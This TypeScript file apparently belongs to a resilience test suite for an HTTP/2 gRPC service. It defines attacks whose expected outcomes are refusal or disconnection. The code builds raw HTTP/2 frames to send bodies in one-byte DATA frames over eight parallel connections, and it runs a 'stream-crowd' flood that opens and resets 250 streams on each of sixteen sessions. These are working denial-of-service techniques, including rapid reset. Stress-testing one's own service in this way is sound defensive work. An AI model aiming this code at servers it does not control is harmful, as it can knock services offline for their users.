import type { Stage, Stranger } from '../stage.ts';
import { type Attack, chatMethod, type Lane, lanes, refusals } from './attack.ts';
import { frame, frameTypes, headerBlock, preface } from './frames.ts';

/** HTTP/2 bodies in frames of one byte, and streams by the hundred, over many connections at once. */

const endHeaders = 4;
const crumb = frame(frameTypes.data, 0, 1, Buffer.from('a'));
const crumbsAtOnce = Buffer.concat(Array.from({ length: 4_096 }, () => crumb));
const initialWindow = 65_535;
const answerMs = 15_000;
const connections = 8;

export const crumbAttacks: readonly Attack[] = [
  crumbAttack('frame-crumbs-key', 'a key', async (stage) => (await stage.openAccount('5.00')).apiKey),
  crumbAttack('frame-crumbs-token', "an end user's token", async (stage) => (await stage.openAccount('5.00')).token),
  crumbAttack('frame-crumbs-nobody', 'nobody', async () => undefined),
  {
    name: 'stream-crowd',
    about: '16 sessions of one address that open and reset 250 streams each at the same moment',
    right: ['open', 'closed'],
    width: 1,
    open: async (stage) => {
      const { token } = await stage.openAccount('5.00');
      return { send: (turn) => crowd(stage.stranger(), turn % 2 === 0 ? token : undefined, turn % 4 < 2) };
    },
  },
];

function crumbAttack(name: string, whose: string, credentialOf: (stage: Stage) => Promise<string | undefined>): Attack {
  return {
    name,
    about: `${connections} HTTP/2 bodies at once in DATA frames of one byte, on every lane, from ${whose}`,
    right: [...refusals, 'answered', 'ended'],
    width: connections,
    open: async (stage) => {
      const credential = await credentialOf(stage);
      const caller = stage.stranger();
      return { send: (turn) => sendCrumbs(caller, lanes[turn % lanes.length] as Lane, credential) };
    },
  };
}

/** Sends one body until its call ends; as much at once as the windows of the service allow. */
function sendCrumbs(caller: Stranger, lane: Lane, credential: string | undefined): Promise<string> {
  return new Promise((resolve) => {
    const socket = caller.socket();
    const windows = { 0: initialWindow, 1: initialWindow };
    let held: Buffer = Buffer.alloc(0);
    let isWriting = false;
    const end = (outcome: string) => {
      clearTimeout(timer);
      socket.destroy();
      resolve(outcome);
    };
    const timer = setTimeout(() => end('ended'), answerMs);
    const more = () => {
      while (!isWriting && !socket.destroyed) {
        const count = Math.min(windows[0], windows[1], 4_096);
        if (count <= 0) return;
        windows[0] -= count;
        windows[1] -= count;
        isWriting = !socket.write(crumbsAtOnce.subarray(0, count * crumb.length));
      }
    };
    socket.on('drain', () => {
      isWriting = false;
      more();
    });
    socket.on('close', () => end('closed'));
    socket.on('data', (chunk: Buffer) => {
      held = Buffer.concat([held, chunk]);
      for (;;) {
        const length = 9 + (held.length >= 9 ? held.readUIntBE(0, 3) : 0);
        if (held.length < length || held.length < 9) break;
        const type = held[3];
        const stream = held.readUInt32BE(5) as 0 | 1;
        if (type === frameTypes.windowUpdate) windows[stream] += held.readUInt32BE(9);
        // A refusal, or the end of the stream or the session.
        else if (type === frameTypes.headers || type === frameTypes.reset) return end('answered');
        else if (type === frameTypes.goAway) return end('closed');
        held = held.subarray(length);
      }
      more();
    });
    socket.write(
      Buffer.concat([preface, frame(frameTypes.settings, 0, 0, Buffer.alloc(0)), open(1, lane, credential)]),
    );
    more();
  });
}

function open(stream: number, { path, contentType }: Lane, credential: string | undefined): Buffer {
  const long = (value: string) => {
    const bytes = Buffer.from(value);
    if (bytes.length < 127) return Buffer.concat([Buffer.from([bytes.length]), bytes]);
    // RFC 7541, 5.1: 127, then the rest in groups of 7 bits.
    const rest = bytes.length - 127;
    return Buffer.concat([Buffer.from([127, ...(rest < 128 ? [rest] : [(rest & 127) | 128, rest >> 7])]), bytes]);
  };
  const block = headerBlock([
    [':method', 'POST'],
    [':scheme', 'http'],
    [':path', path],
    [':authority', 'a'],
    ['content-type', contentType],
    ['te', 'trailers'],
  ]);
  const authorization =
    credential === undefined
      ? Buffer.alloc(0)
      : Buffer.concat([Buffer.from([0]), long('authorization'), long(`Bearer ${credential}`)]);
  return frame(frameTypes.headers, endHeaders, stream, Buffer.concat([block, authorization]));
}

const crowdSessions = 16;
const crowdStreams = 250;
const crowdMs = 100;

async function crowd(caller: Stranger, credential: string | undefined, isReset: boolean): Promise<string> {
  const sockets = Array.from({ length: crowdSessions }, () => caller.socket());
  const begin = Buffer.concat([preface, frame(frameTypes.settings, 0, 0, Buffer.alloc(0))]);
  const cancel = Buffer.from([0, 0, 0, 8]);
  const lane = { path: chatMethod, contentType: 'application/grpc' };
  const opened = Buffer.concat(
    Array.from({ length: crowdStreams }, (_, at) => {
      const stream = 2 * at + 1;
      const opening = open(stream, lane, credential);
      return isReset ? Buffer.concat([opening, frame(frameTypes.reset, 0, stream, cancel)]) : opening;
    }),
  );
  for (const socket of sockets) socket.write(begin);
  await new Promise((resolve) => setTimeout(resolve, crowdMs));
  for (const socket of sockets) socket.write(opened);
  await new Promise((resolve) => setTimeout(resolve, crowdMs));
  const outcome = sockets.some(({ destroyed }) => !destroyed) ? 'open' : 'closed';
  for (const socket of sockets) socket.destroy();
  return outcome;
}
